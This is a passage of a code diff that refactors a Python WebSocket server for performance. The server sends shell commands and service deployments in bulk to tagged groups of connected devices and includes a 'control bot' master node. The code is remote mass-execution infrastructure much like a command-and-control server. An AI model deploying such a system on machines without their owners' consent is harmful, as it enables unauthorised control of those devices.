@@ -8,6 +8,7 @@ This system includes safeguards but should be used responsibly.
 """
 
 import asyncio
+import importlib.util
 import json
 import logging
 import os
@@ -16,16 +17,25 @@ import sys
 import time
 import uuid
 import hashlib
+import gzip
 import subprocess
 import tempfile
 import signal
+import shutil
+import re
 import argparse
 import socket
 from pathlib import Path
+from concurrent.futures import ThreadPoolExecutor
 from typing import Dict, List, Optional, Any
 import threading
 import psutil
 
+try:
+    import resource
+except ImportError:  # Not available on Windows
+    resource = None
+
 def check_and_install_dependencies():
     """Check for required dependencies and auto-install if missing"""
     required_packages = {
@@ -36,13 +46,9 @@ def check_and_install_dependencies():
         'requests': 'requests>=2.32.0'
     }
     
-    missing_packages = []
-    
-    for package_name, package_spec in required_packages.items():
-        try:
-            __import__(package_name)
-        except ImportError:
-            missing_packages.append(package_spec)
+    # find_spec locates packages without executing them
+    missing_packages = [package_spec for package_name, package_spec in required_packages.items()
+                        if importlib.util.find_spec(package_name) is None]
     
     if missing_packages:
         print("📦 Missing dependencies detected. Auto-installing...")
@@ -90,8 +96,20 @@ def check_and_install_dependencies():
 # Check and auto-install dependencies before importing
 check_and_install_dependencies()
 
+try:
+    import orjson
+    
+    def _json_dumps(obj) -> str:
+        """Encode JSON with orjson, returning str so websockets still sends text frames"""
+        return orjson.dumps(obj, option=orjson.OPT_NON_STR_KEYS).decode()
+    _json_loads = orjson.loads
+except ImportError:
+    _json_dumps = json.dumps
+    _json_loads = json.loads
+
 try:
     import websockets
+    from websockets.protocol import State
     from aiohttp import web, MultipartReader
     import aiofiles
 except ImportError as e:
@@ -121,6 +139,11 @@ MAX_OUTPUT_SIZE = 50 * 1024 * 1024  # 50MB output for large operations
 MAX_CONCURRENT_COMMANDS = 50   # Reduced from 500 to 50 for better stability
 COMMAND_QUEUE_SIZE = 1000      # Reduced from 10000 to 1000 for memory efficiency  
 DEVICE_BATCH_SIZE = 50         # Reduced from 500 to 50 for lower strain
+AUDIT_BATCH_SIZE = 500         # Audit rows written per transaction
+AUDIT_FLUSH_INTERVAL = 0.1     # Seconds audit rows may wait before being written
+CLIENT_SEND_QUEUE_SIZE = 64    # Outbound messages buffered per device before it is dropped
+BROADCAST_WRITE_LIMIT = 32768  # Unflushed bytes above which broadcasts go through a device's queue
+VACUUM_PAGES_PER_RUN = 2000    # Free pages returned to the OS per database_optimizer pass
 
 # Auto resource optimization
 def auto_optimize_resources():
@@ -478,8 +501,13 @@ pip install websockets psutil requests
 }
 
 # Global state
+# clients is copy-on-write: writers swap in a new dict under clients_lock,
+# readers use whatever dict they see without locking
 clients: Dict[str, Dict] = {}
 clients_lock = asyncio.Lock()
+tag_index: Dict[str, set] = {}  # tag -> ids of connected clients carrying it
+# Kept apart from the client records so heartbeats and timeout sweeps only touch floats
+client_last_seen: Dict[str, float] = {}
 command_queue = asyncio.Queue(maxsize=COMMAND_QUEUE_SIZE)
 device_groups: Dict[str, List[str]] = {}
 active_services: Dict[str, Dict] = {}  # Track running services per device
@@ -503,6 +531,18 @@ logging.basicConfig(
     ]
 )
 
+# Hot-path statements kept as constants so sqlite3's statement cache always hits
+SQL_ADD_DEVICE = """
+    INSERT OR REPLACE INTO devices (id, tags, exec_allowed, last_seen, metadata)
+    VALUES (?, ?, ?, ?, ?)
+"""
+SQL_UPDATE_LAST_SEEN = "UPDATE devices SET last_seen = ? WHERE id = ?"
+SQL_INSERT_AUDIT = """
+    INSERT INTO audit_log (device_id, action, command, result, user_agent)
+    VALUES (?, ?, ?, ?, ?)
+"""
+SQL_GET_UPLOAD = "SELECT * FROM uploads WHERE id = ?"
+
 class Database:
     """Enhanced SQLite database handler with caching and performance optimizations"""
     
@@ -511,8 +551,28 @@ class Database:
         self._cache = {}
         self._cache_timeout = 30  # Cache for 30 seconds
         self._cache_timestamps = {}
+        self._local = threading.local()  # One reusable connection per thread
+        self._write_lock = threading.Lock()  # SQLite allows a single writer anyway
+        self._audit_buffer = []  # Pending audit rows, written in batches
+        self._audit_flush_handle = None
+        # Upload hashing + insert runs here so the event loop keeps serving devices
+        self._hash_pool = ThreadPoolExecutor(max_workers=min(8, os.cpu_count() or 1),
+                                             thread_name_prefix="upload-hash")
         self.init_db()
     
+    def _conn(self) -> sqlite3.Connection:
+        """Get this thread's connection, opening it on first use"""
+        conn = getattr(self._local, "conn", None)
+        if conn is None:
+            conn = sqlite3.connect(self.db_path, check_same_thread=False, cached_statements=256)
+            # Per-connection tuning: WAL only needs fsync at checkpoints, 64MB page cache
+            conn.execute("PRAGMA synchronous=NORMAL")
+            conn.execute("PRAGMA cache_size=-65536")
+            conn.execute("PRAGMA temp_store=MEMORY")
+            conn.execute("PRAGMA mmap_size=268435456")
+            self._local.conn = conn
+        return conn
+    
     def _get_cached(self, key: str):
         """Get value from cache if not expired"""
         if key in self._cache:
@@ -538,8 +598,12 @@ class Database:
     
     def init_db(self):
         """Initialize database tables with optimized indexes"""
-        conn = sqlite3.connect(self.db_path)
-        try:
+        conn = self._conn()
+        # Only takes effect on a fresh database; lets optimize() hand freed pages back to the OS
+        conn.execute("PRAGMA auto_vacuum=INCREMENTAL")
+        # WAL is persistent in the file and lets readers run alongside the writer
+        conn.execute("PRAGMA journal_mode=WAL")
+        with self._write_lock, conn:  # Commits, or rolls back on error
             conn.execute("""
                 CREATE TABLE IF NOT EXISTS devices (
                     id TEXT PRIMARY KEY,
@@ -581,103 +645,123 @@ class Database:
                 )
             """)
             
-            conn.commit()
-        finally:
-            conn.close()
+            conn.execute("CREATE INDEX IF NOT EXISTS idx_audit_ts_dev ON audit_log(timestamp DESC, device_id)")
     
     def add_device(self, device_id: str, tags: List[str] = None, exec_allowed: bool = False, metadata: Dict = None):
         """Add or update device information"""
-        conn = sqlite3.connect(self.db_path)
-        try:
-            tags_str = json.dumps(tags or [])
-            metadata_str = json.dumps(metadata or {})
-            conn.execute("""
-                INSERT OR REPLACE INTO devices (id, tags, exec_allowed, last_seen, metadata)
-                VALUES (?, ?, ?, ?, ?)
-            """, (device_id, tags_str, exec_allowed, int(time.time()), metadata_str))
-            conn.commit()
-        finally:
-            conn.close()
+        tags_str = _json_dumps(tags or [])
+        metadata_str = _json_dumps(metadata or {})
+        conn = self._conn()
+        with self._write_lock, conn:
+            conn.execute(SQL_ADD_DEVICE, (device_id, tags_str, exec_allowed, int(time.time()), metadata_str))
     
     def update_device_last_seen(self, device_id: str):
         """Update device last seen timestamp"""
-        conn = sqlite3.connect(self.db_path)
-        try:
-            conn.execute("UPDATE devices SET last_seen = ? WHERE id = ?", 
-                        (int(time.time()), device_id))
-            conn.commit()
-        finally:
-            conn.close()
+        conn = self._conn()
+        with self._write_lock, conn:
+            conn.execute(SQL_UPDATE_LAST_SEEN, (int(time.time()), device_id))
+    
+    @staticmethod
+    def _hash_file(path: str) -> str:
+        """Calculate the SHA256 hex digest of a file"""
+        with open(path, "rb", buffering=0) as f:
+            if hasattr(hashlib, "file_digest"):  # Python 3.11+: hashing loop runs in C
+                return hashlib.file_digest(f, "sha256").hexdigest()
+            sha256_hash = hashlib.sha256()
+            for chunk in iter(lambda: f.read(1024 * 1024), b""):
+                sha256_hash.update(chunk)
+            return sha256_hash.hexdigest()
     
     def add_upload(self, upload_id: str, filename: str, path: str, size: int, uploader: str):
         """Add upload record"""
-        # Calculate SHA256 hash
-        sha256_hash = hashlib.sha256()
-        with open(path, "rb") as f:
-            for chunk in iter(lambda: f.read(4096), b""):
-                sha256_hash.update(chunk)
+        sha256_hex = self._hash_file(path)
         
-        conn = sqlite3.connect(self.db_path)
-        try:
+        conn = self._conn()
+        with self._write_lock, conn:
             conn.execute("""
                 INSERT INTO uploads (id, filename, path, size, uploader, sha256)
                 VALUES (?, ?, ?, ?, ?, ?)
-            """, (upload_id, filename, path, size, uploader, sha256_hash.hexdigest()))
-            conn.commit()
-        finally:
-            conn.close()
+            """, (upload_id, filename, path, size, uploader, sha256_hex))
+    
+    async def add_upload_async(self, upload_id: str, filename: str, path: str, size: int, uploader: str):
+        """Add upload record without blocking the event loop"""
+        await asyncio.get_running_loop().run_in_executor(
+            self._hash_pool, self.add_upload, upload_id, filename, path, size, uploader)
     
     def get_upload(self, upload_id: str) -> Optional[Dict]:
         """Get upload information"""
-        conn = sqlite3.connect(self.db_path)
-        try:
-            cursor = conn.execute("SELECT * FROM uploads WHERE id = ?", (upload_id,))
-            row = cursor.fetchone()
-            if row:
-                return {
-                    "id": row[0],
-                    "filename": row[1],
-                    "path": row[2],
-                    "size": row[3],
-                    "uploader": row[4],
-                    "created_at": row[5],
-                    "sha256": row[6]
-                }
-        finally:
-            conn.close()
+        cursor = self._conn().execute(SQL_GET_UPLOAD, (upload_id,))
+        row = cursor.fetchone()
+        if row:
+            return {
+                "id": row[0],
+                "filename": row[1],
+                "path": row[2],
+                "size": row[3],
+                "uploader": row[4],
+                "created_at": row[5],
+                "sha256": row[6]
+            }
         return None
     
     def list_uploads(self) -> List[Dict]:
         """List all uploads"""
-        conn = sqlite3.connect(self.db_path)
-        try:
-            cursor = conn.execute("SELECT * FROM uploads ORDER BY created_at DESC")
-            uploads = []
-            for row in cursor.fetchall():
-                uploads.append({
-                    "id": row[0],
-                    "filename": row[1],
-                    "path": row[2],
-                    "size": row[3],
-                    "uploader": row[4],
-                    "created_at": row[5],
-                    "sha256": row[6]
-                })
-            return uploads
-        finally:
-            conn.close()
+        cursor = self._conn().execute("SELECT * FROM uploads ORDER BY created_at DESC")
+        uploads = []
+        for row in cursor.fetchall():
+            uploads.append({
+                "id": row[0],
+                "filename": row[1],
+                "path": row[2],
+                "size": row[3],
+                "uploader": row[4],
+                "created_at": row[5],
+                "sha256": row[6]
+            })
+        return uploads
+    
+    def optimize(self):
+        """Refresh query planner statistics and release free pages"""
+        with self._write_lock:
+            conn = self._conn()
+            conn.execute("PRAGMA optimize")
+            # Frees one page per step and execute() only steps once; executescript() runs it to completion
+            conn.executescript(f"PRAGMA incremental_vacuum({VACUUM_PAGES_PER_RUN})")
     
     def log_audit(self, device_id: str, action: str, command: str, result: str, user_agent: str = None):
         """Add audit log entry"""
-        conn = sqlite3.connect(self.db_path)
+        row = (device_id, action, command, result, user_agent)
         try:
-            conn.execute("""
-                INSERT INTO audit_log (device_id, action, command, result, user_agent)
-                VALUES (?, ?, ?, ?, ?)
-            """, (device_id, action, command, result, user_agent))
-            conn.commit()
-        finally:
-            conn.close()
+            loop = asyncio.get_running_loop()
+        except RuntimeError:
+            # No event loop in this thread to flush later, write straight away
+            self._write_audit_rows([row])
+            return
+        
+        # Buffer on the event loop and commit many rows per transaction
+        self._audit_buffer.append(row)
+        if len(self._audit_buffer) >= AUDIT_BATCH_SIZE:
+            self.flush_audit()
+        elif self._audit_flush_handle is None:
+            self._audit_flush_handle = loop.call_later(AUDIT_FLUSH_INTERVAL, self.flush_audit)
+    
+    def flush_audit(self):
+        """Write all buffered audit entries in a single transaction"""
+        if self._audit_flush_handle is not None:
+            self._audit_flush_handle.cancel()
+            self._audit_flush_handle = None
+        rows, self._audit_buffer = self._audit_buffer, []
+        if rows:
+            try:
+                self._write_audit_rows(rows)
+            except Exception as e:
+                logging.error(f"Failed to write {len(rows)} audit entries: {e}")
+    
+    def _write_audit_rows(self, rows: List[tuple]):
+        """Insert audit rows with one executemany"""
+        conn = self._conn()
+        with self._write_lock, conn:
+            conn.executemany(SQL_INSERT_AUDIT, rows)
 
 class LoadBalancer:
     """Advanced load balancer for distributing commands across devices"""
@@ -699,6 +783,13 @@ class LoadBalancer:
     async def stop(self):
         """Stop load balancer"""
         self.running = False
+        # One sentinel per idle worker; cancel whatever is still busy
+        for _ in self.workers:
+            try:
+                self.command_queue.put_nowait(None)
+            except asyncio.QueueFull:
+                break
+        await asyncio.sleep(0)
         for worker in self.workers:
             worker.cancel()
         await asyncio.gather(*self.workers, return_exceptions=True)
@@ -706,16 +797,16 @@ class LoadBalancer:
     async def _worker(self, worker_id: str):
         """Worker coroutine to process commands"""
         while self.running:
+            # Sleeps until work arrives; stop() wakes idle workers with None
+            command_data = await self.command_queue.get()
             try:
-                command_data = await asyncio.wait_for(
-                    self.command_queue.get(), timeout=1.0
-                )
+                if command_data is None:
+                    break
                 await self._execute_command(command_data, worker_id)
-                self.command_queue.task_done()
-            except asyncio.TimeoutError:
-                continue
             except Exception as e:
                 logging.error(f"Worker {worker_id} error: {e}")
+            finally:
+                self.command_queue.task_done()
     
     async def _execute_command(self, command_data: Dict, worker_id: str):
         """Execute command on target devices"""
@@ -727,25 +818,29 @@ class LoadBalancer:
             # Get least loaded devices
             target_devices = await self._get_optimal_devices(target)
             
+            # Same message for every device, so encode it once
+            payload = _json_dumps({
+                "type": "command",
+                "command": command,
+                "worker_id": worker_id,
+                "timestamp": time.time()
+            })
+            
+            targets = {device_id: clients[device_id] for device_id in target_devices
+                       if device_id in clients}
+            errors = broadcast_client_message(targets, payload)
+            
             results = {}
-            for device_id in target_devices:
-                if device_id in clients:
-                    client = clients[device_id]
-                    try:
-                        await client["websocket"].send(json.dumps({
-                            "type": "command",
-                            "command": command,
-                            "worker_id": worker_id,
-                            "timestamp": time.time()
-                        }))
-                        results[device_id] = {"status": "sent", "worker": worker_id}
-                        self.device_loads[device_id] = self.device_loads.get(device_id, 0) + 1
-                    except Exception as e:
-                        results[device_id] = {"error": str(e)}
+            for device_id in targets:
+                if device_id in errors:
+                    results[device_id] = {"error": errors[device_id]}
+                else:
+                    results[device_id] = {"status": "sent", "worker": worker_id}
+                    self.device_loads[device_id] = self.device_loads.get(device_id, 0) + 1
             
             # Log execution
             db.log_audit("load_balancer", "bulk_command", command, 
-                        json.dumps(results), worker_id)
+                        _json_dumps(results), worker_id)
             
         except Exception as e:
             logging.error(f"Command execution error in {worker_id}: {e}")
@@ -776,30 +871,36 @@ class DeviceManager:
     """Advanced device management with grouping and monitoring"""
     
     def __init__(self):
-        self.groups: Dict[str, List[str]] = {}
+        self.groups: Dict[str, set] = {}
+        self._dev2groups: Dict[str, set] = {}  # Inverse of groups: device -> its groups
         self.device_stats: Dict[str, Dict] = {}
         self.service_registry: Dict[str, Dict] = {}
     
     def add_device_to_group(self, device_id: str, group: str):
         """Add device to a group"""
-        if group not in self.groups:
-            self.groups[group] = []
-        if device_id not in self.groups[group]:
-            self.groups[group].append(device_id)
+        self.groups.setdefault(group, set()).add(device_id)
+        self._dev2groups.setdefault(device_id, set()).add(group)
     
     def remove_device_from_group(self, device_id: str, group: str):
         """Remove device from a group"""
-        if group in self.groups and device_id in self.groups[group]:
-            self.groups[group].remove(device_id)
+        self.groups.get(group, set()).discard(device_id)
+        device_groups = self._dev2groups.get(device_id)
+        if device_groups is not None:
+            device_groups.discard(group)
+            if not device_groups:
+                del self._dev2groups[device_id]
     
     def get_devices_in_group(self, group: str) -> List[str]:
         """Get all devices in a group"""
-        return self.groups.get(group, [])
+        return list(self.groups.get(group, ()))
     
     def get_device_groups(self, device_id: str) -> List[str]:
         """Get all groups a device belongs to"""
-        return [group for group, devices in self.groups.items() 
-                if device_id in devices]
+        return list(self._dev2groups.get(device_id, ()))
+    
+    def get_all_groups(self) -> Dict[str, List[str]]:
+        """Get all groups with their members as JSON-friendly lists"""
+        return {group: sorted(devices) for group, devices in self.groups.items()}
     
     def update_device_stats(self, device_id: str, stats: Dict):
         """Update device statistics"""
@@ -864,21 +965,20 @@ class ServiceManager:
         }
         
         # Deploy the service
-        async with clients_lock:
-            if device_id in clients:
-                client = clients[device_id]
-                try:
-                    await client["websocket"].send(json.dumps({
-                        "type": "deploy_service",
-                        "service_name": service_name,
-                        "file_path": file_path,
-                        "auto_restart": auto_restart
-                    }))
-                    self.services[service_key]["status"] = "deployed"
-                    return {"status": "success", "service_key": service_key}
-                except Exception as e:
-                    self.services[service_key]["status"] = "failed"
-                    return {"status": "error", "error": str(e)}
+        client = clients.get(device_id)
+        if client:
+            try:
+                await client["websocket"].send(json.dumps({
+                    "type": "deploy_service",
+                    "service_name": service_name,
+                    "file_path": file_path,
+                    "auto_restart": auto_restart
+                }))
+                self.services[service_key]["status"] = "deployed"
+                return {"status": "success", "service_key": service_key}
+            except Exception as e:
+                self.services[service_key]["status"] = "failed"
+                return {"status": "error", "error": str(e)}
         
         return {"status": "error", "error": "device_not_connected"}
     
@@ -893,21 +993,20 @@ class ServiceManager:
         if self.restart_attempts.get(service_key, 0) >= MAX_RESTART_ATTEMPTS:
             return {"status": "error", "error": "max_restart_attempts_reached"}
         
-        async with clients_lock:
-            if device_id in clients:
-                client = clients[device_id]
-                try:
-                    await client["websocket"].send(json.dumps({
-                        "type": "restart_service",
-                        "service_name": service_name
-                    }))
-                    
-                    self.restart_attempts[service_key] = self.restart_attempts.get(service_key, 0) + 1
-                    self.services[service_key]["last_restart"] = time.time()
-                    
-                    return {"status": "success", "attempts": self.restart_attempts[service_key]}
-                except Exception as e:
-                    return {"status": "error", "error": str(e)}
+        client = clients.get(device_id)
+        if client:
+            try:
+                await client["websocket"].send(json.dumps({
+                    "type": "restart_service",
+                    "service_name": service_name
+                }))
+                
+                self.restart_attempts[service_key] = self.restart_attempts.get(service_key, 0) + 1
+                self.services[service_key]["last_restart"] = time.time()
+                
+                return {"status": "success", "attempts": self.restart_attempts[service_key]}
+            except Exception as e:
+                return {"status": "error", "error": str(e)}
         
         return {"status": "error", "error": "device_not_connected"}
 
@@ -1387,34 +1486,32 @@ class TerminalInterface:
     
     async def _execute_on_device(self, device_id: str, command: str, user_context: str) -> Dict:
         """Execute command on specific device with full terminal capabilities"""
-        async with clients_lock:
-            if device_id not in clients:
-                return {"success": False, "error": "Device not connected"}
+        client = clients.get(device_id)
+        if client is None:
+            return {"success": False, "error": "Device not connected"}
+        
+        # Check if this is a local device (control bot)
+        if client.get("local_device", False):
+            # Execute locally for control bot
+            return await self._execute_locally(command, user_context)
+        
+        try:
+            # Send terminal command to remote device
+            await client["websocket"].send(json.dumps({
+                "type": "terminal_command",
+                "command": command,
+                "timeout": EXEC_TIMEOUT,
+                "user_context": user_context,
+                "shell": True  # Use real shell
+            }))
             
-            client = clients[device_id]
+            # Log the command execution
+            db.log_audit(device_id, "terminal_command", command, "sent", user_context)
             
-            # Check if this is a local device (control bot)
-            if client.get("local_device", False):
-                # Execute locally for control bot
-                return await self._execute_locally(command, user_context)
+            return {"success": True, "status": "sent"}
             
-            try:
-                # Send terminal command to remote device
-                await client["websocket"].send(json.dumps({
-                    "type": "terminal_command",
-                    "command": command,
-                    "timeout": EXEC_TIMEOUT,
-                    "user_context": user_context,
-                    "shell": True  # Use real shell
-                }))
-                
-                # Log the command execution
-                db.log_audit(device_id, "terminal_command", command, "sent", user_context)
-                
-                return {"success": True, "status": "sent"}
-                
-            except Exception as e:
-                return {"success": False, "error": str(e)}
+        except Exception as e:
+            return {"success": False, "error": str(e)}
     
     async def _execute_locally(self, command: str, user_context: str) -> Dict:
         """Execute command locally when no devices are connected"""
@@ -1874,7 +1971,7 @@ async def initialize_control_bot():
         
         # Add to clients as master bot
         async with clients_lock:
-            clients[control_bot_id] = {
+            add_client(control_bot_id, {
                 "websocket": None,  # Local device doesn't need websocket
                 "meta": {
                     "tags": ["control", "master", "admin", "local"],
@@ -1888,11 +1985,10 @@ async def initialize_control_bot():
                         "python_version": platform.python_version()
                     }
                 },
-                "last_seen": time.time(),
                 "registered_at": time.time(),
                 "command_count": 0,
                 "local_device": True  # Mark as local device
-            }
+            })
         
         # Also add to database for persistence
         db.add_device(
@@ -1935,9 +2031,12 @@ def safe_mkdir(path: str):
     """Safely create directory"""
     os.makedirs(path, exist_ok=True)
 
+# 1-64 ASCII letters, digits, '-' or '_'; \Z rejects a trailing newline that $ would allow
+DEVICE_ID_RE = re.compile(r"[A-Za-z0-9_-]{1,64}\Z")
+
 def validate_device_id(device_id: str) -> bool:
     """Validate device ID format"""
-    return len(device_id) <= 64 and device_id.replace('-', '').replace('_', '').isalnum()
+    return DEVICE_ID_RE.match(device_id) is not None
 
 def parse_target_spec(target: str) -> Dict:
     """Parse target specification (id:dev-1, tag:alpha, all)"""
@@ -1950,26 +2049,120 @@ def parse_target_spec(target: str) -> Dict:
     else:
         return {"type": "id", "value": target}  # Default to ID
 
+def _client_tags(client_info: Dict) -> List[str]:
+    """Get the indexable tags of a client record"""
+    tags = client_info["meta"].get("tags", [])
+    if not isinstance(tags, (list, tuple)):
+        return []
+    return [tag for tag in tags if isinstance(tag, str)]
+
+def _unindex_client_tags(client_id: str, client_info: Dict):
+    """Drop a client from the tag index, pruning tags left without members"""
+    for tag in _client_tags(client_info):
+        members = tag_index.get(tag)
+        if members is not None:
+            members.discard(client_id)
+            if not members:
+                del tag_index[tag]
+
+def add_client(client_id: str, client_info: Dict):
+    """Register a client; caller must hold clients_lock"""
+    global clients
+    previous = clients.get(client_id)
+    if previous:
+        _unindex_client_tags(client_id, previous)
+    clients = {**clients, client_id: client_info}
+    client_last_seen[client_id] = time.time()
+    for tag in _client_tags(client_info):
+        tag_index.setdefault(tag, set()).add(client_id)
+
+def remove_clients(client_ids):
+    """Unregister clients; caller must hold clients_lock"""
+    global clients
+    removed = set(client_ids) & clients.keys()
+    if not removed:
+        return
+    for client_id in removed:
+        _unindex_client_tags(client_id, clients[client_id])
+        client_last_seen.pop(client_id, None)
+    clients = {k: v for k, v in clients.items() if k not in removed}
+
 async def get_matching_clients(target_spec: Dict) -> List[str]:
     """Get client IDs matching target specification"""
-    matches = []
-    async with clients_lock:
-        for client_id, client_info in clients.items():
-            if target_spec["type"] == "all":
-                matches.append(client_id)
-            elif target_spec["type"] == "id" and client_id == target_spec["value"]:
-                matches.append(client_id)
-            elif target_spec["type"] == "tag":
-                client_tags = client_info["meta"].get("tags", [])
-                if target_spec["value"] in client_tags:
-                    matches.append(client_id)
-    return matches
+    if target_spec["type"] == "all":
+        return list(clients)
+    elif target_spec["type"] == "id":
+        return [target_spec["value"]] if target_spec["value"] in clients else []
+    elif target_spec["type"] == "tag":
+        return list(tag_index.get(target_spec["value"], ()))
+    return []
+
+async def client_sender(client_id: str, websocket, send_queue: asyncio.Queue):
+    """Drain a client's outbound queue onto its websocket"""
+    try:
+        while True:
+            payload = await send_queue.get()
+            await websocket.send(payload)
+    except websockets.exceptions.ConnectionClosed:
+        pass
+    except Exception as e:
+        # Without a sender the client can never receive again; close it so the handler unregisters it
+        logging.error(f"Send error for {client_id}: {e}")
+        await websocket.close(code=1011, reason="send failed")
+
+def enqueue_client_message(client: Dict, payload: str):
+    """Queue a message for a client's sender task without waiting on the socket"""
+    send_queue = client.get("send_queue")
+    if send_queue is None:
+        raise RuntimeError("device has no outbound connection")
+    try:
+        send_queue.put_nowait(payload)
+    except asyncio.QueueFull:
+        # A client this far behind is not keeping up; drop it instead of buffering without bound
+        asyncio.create_task(client["websocket"].close(code=1013, reason="send backlog full"))
+        raise RuntimeError("send queue full, disconnecting slow device")
+
+def broadcast_client_message(targets: Dict[str, Dict], payload: str) -> Dict[str, str]:
+    """Send one message to many clients; returns error messages by client ID"""
+    errors = {}
+    idle_sockets = []
+    for client_id, client in targets.items():
+        send_queue = client.get("send_queue")
+        # broadcast() silently skips sockets that are not open, so report those here
+        if send_queue is not None and client["websocket"].state is not State.OPEN:
+            errors[client_id] = "connection closed"
+            continue
+        # Idle sockets share one frame written straight to the transport; a
+        # socket with queued or unflushed data keeps its order and backpressure
+        if (send_queue is not None and send_queue.empty()
+                and client["websocket"].transport.get_write_buffer_size() < BROADCAST_WRITE_LIMIT):
+            idle_sockets.append(client["websocket"])
+            continue
+        try:
+            enqueue_client_message(client, payload)
+        except Exception as e:
+            errors[client_id] = str(e)
+    websockets.broadcast(idle_sockets, payload)
+    return errors
 
 class SandboxedExecutor:
     """Secure sandboxed execution environment"""
     
     @staticmethod
-    def execute_file(file_path: str, args: List[str] = None) -> Dict:
+    def _apply_limits():
+        """Runs in the child before exec: own process group plus kernel-enforced limits"""
+        os.setsid()
+        if resource is None:
+            return
+        for limit, value in ((resource.RLIMIT_AS, MAX_MEMORY_MB * 1024 * 1024),
+                             (resource.RLIMIT_CPU, EXEC_TIMEOUT)):
+            soft, hard = resource.getrlimit(limit)
+            if hard != resource.RLIM_INFINITY:
+                value = min(value, hard)
+            resource.setrlimit(limit, (value, hard))
+    
+    @staticmethod
+    async def execute_file(file_path: str, args: List[str] = None) -> Dict:
         """Execute file in sandboxed environment"""
         if not os.path.exists(file_path):
             return {"success": False, "error": "File not found"}
@@ -1980,13 +2173,22 @@ class SandboxedExecutor:
         try:
             # Create temporary directory for execution
             with tempfile.TemporaryDirectory() as temp_dir:
-                # Copy file to temp directory
+                # Link file into temp directory; chmod on a link would change the source,
+                # so only link files that are run via an interpreter or already executable
                 temp_file = os.path.join(temp_dir, os.path.basename(file_path))
-                with open(file_path, 'rb') as src, open(temp_file, 'wb') as dst:
-                    dst.write(src.read())
+                linked = False
+                if file_path.endswith(('.py', '.sh')) or os.access(file_path, os.X_OK):
+                    try:
+                        os.link(file_path, temp_file)
+                        linked = True
+                    except OSError:
+                        pass  # e.g. EXDEV when the temp dir is on another filesystem
                 
-                # Make executable if it's a script
-                os.chmod(temp_file, 0o755)
+                if not linked:
+                    shutil.copyfile(file_path, temp_file)  # Kernel-side copy, no full read into memory
+                    
+                    # Make executable if it's a script
+                    os.chmod(temp_file, 0o755)
                 
                 # Determine execution command
                 if file_path.endswith('.py'):
@@ -1996,49 +2198,30 @@ class SandboxedExecutor:
                 else:
                     cmd = [temp_file] + args
                 
-                # Execute with limits
-                process = subprocess.Popen(
-                    cmd,
-                    stdout=subprocess.PIPE,
-                    stderr=subprocess.PIPE,
+                # Execute with limits; awaiting keeps the event loop serving other work
+                process = await asyncio.create_subprocess_exec(
+                    *cmd,
+                    stdout=asyncio.subprocess.PIPE,
+                    stderr=asyncio.subprocess.PIPE,
                     cwd=temp_dir,
-                    preexec_fn=os.setsid if os.name != 'nt' else None
+                    # The kernel enforces memory and CPU limits, so no polling monitor thread
+                    preexec_fn=SandboxedExecutor._apply_limits if os.name != 'nt' else None
                 )
                 
-                # Monitor resource usage
-                def kill_if_exceeded():
-                    try:
-                        p = psutil.Process(process.pid)
-                        while process.poll() is None:
-                            if time.time() - start_time > EXEC_TIMEOUT:
-                                os.killpg(os.getpgid(process.pid), signal.SIGTERM)
-                                return
-                            
-                            if p.cpu_percent() > MAX_CPU_PERCENT:
-                                logging.warning(f"Process {process.pid} exceeded CPU limit")
-                            
-                            if p.memory_info().rss > MAX_MEMORY_MB * 1024 * 1024:
-                                logging.warning(f"Process {process.pid} exceeded memory limit")
-                                os.killpg(os.getpgid(process.pid), signal.SIGTERM)
-                                return
-                            
-                            time.sleep(0.5)
-                    except (psutil.NoSuchProcess, ProcessLookupError):
-                        pass
-                
-                monitor_thread = threading.Thread(target=kill_if_exceeded, daemon=True)
-                monitor_thread.start()
-                
+                # Drain both pipes in their own tasks so output produced before a timeout is kept
+                stdout_task = asyncio.ensure_future(process.stdout.read())
+                stderr_task = asyncio.ensure_future(process.stderr.read())
                 try:
-                    stdout, stderr = process.communicate(timeout=EXEC_TIMEOUT)
+                    await asyncio.wait_for(process.wait(), timeout=EXEC_TIMEOUT)
                     returncode = process.returncode
-                except subprocess.TimeoutExpired:
+                except asyncio.TimeoutError:
                     try:
                         os.killpg(os.getpgid(process.pid), signal.SIGTERM)
                     except ProcessLookupError:
                         pass
-                    stdout, stderr = process.communicate()
+                    await process.wait()
                     returncode = -1
+                stdout, stderr = await stdout_task, await stderr_task
                 
                 # Limit output size
                 if len(stdout) > MAX_OUTPUT_SIZE:
@@ -2067,32 +2250,35 @@ class SandboxedExecutor:
 async def handle_client(websocket):
     """Handle WebSocket client connection"""
     client_id = None
+    sender_task = None
     try:
         # Authentication handshake
         auth_msg = await websocket.recv()
-        auth_data = json.loads(auth_msg)
+        auth_data = _json_loads(auth_msg)
         
         if auth_data.get("token") != AUTH_TOKEN:
-            await websocket.send(json.dumps({"error": "unauthorized"}))
+            await websocket.send(_json_dumps({"error": "unauthorized"}))
             return
         
         client_id = auth_data.get("device_id")
         if not client_id or not validate_device_id(client_id):
-            await websocket.send(json.dumps({"error": "invalid device_id"}))
+            await websocket.send(_json_dumps({"error": "invalid device_id"}))
             return
         
         # Register client
         async with clients_lock:
             if len(clients) >= MAX_DEVICES:
-                await websocket.send(json.dumps({"error": "max_devices_reached"}))
+                await websocket.send(_json_dumps({"error": "max_devices_reached"}))
                 return
             
-            clients[client_id] = {
+            send_queue = asyncio.Queue(maxsize=CLIENT_SEND_QUEUE_SIZE)
+            add_client(client_id, {
                 "websocket": websocket,
+                "send_queue": send_queue,
                 "meta": auth_data.get("meta", {}),
-                "last_seen": time.time(),
                 "authenticated": True
-            }
+            })
+        sender_task = asyncio.create_task(client_sender(client_id, websocket, send_queue))
         
         # Update database
         db.add_device(
@@ -2103,12 +2289,12 @@ async def handle_client(websocket):
         )
         
         logging.info(f"Device {client_id} connected")
-        await websocket.send(json.dumps({"status": "connected", "device_id": client_id}))
+        await websocket.send(_json_dumps({"status": "connected", "device_id": client_id}))
         
         # Handle messages
         async for message in websocket:
             try:
-                data = json.loads(message)
+                data = _json_loads(message)
                 await handle_device_message(client_id, data)
             except json.JSONDecodeError:
                 logging.warning(f"Invalid JSON from {client_id}")
@@ -2120,9 +2306,11 @@ async def handle_client(websocket):
     except Exception as e:
         logging.error(f"WebSocket error: {e}")
     finally:
+        if sender_task:
+            sender_task.cancel()
         if client_id:
             async with clients_lock:
-                clients.pop(client_id, None)
+                remove_clients([client_id])
             logging.info(f"Device {client_id} disconnected")
 
 async def handle_device_message(client_id: str, data: Dict):
@@ -2130,9 +2318,8 @@ async def handle_device_message(client_id: str, data: Dict):
     msg_type = data.get("type")
     
     if msg_type == "heartbeat":
-        async with clients_lock:
-            if client_id in clients:
